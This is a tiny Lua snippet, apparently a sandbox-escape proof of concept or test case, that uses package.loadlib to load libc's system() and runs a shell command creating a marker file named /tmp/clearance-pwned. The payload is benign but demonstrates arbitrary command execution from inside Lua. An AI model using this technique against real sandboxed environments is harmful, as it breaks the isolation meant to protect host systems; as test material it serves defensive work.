-- Loads a C function from libc.
local system = package.loadlib("libc.so.6", "system")
system("touch /tmp/clearance-pwned")
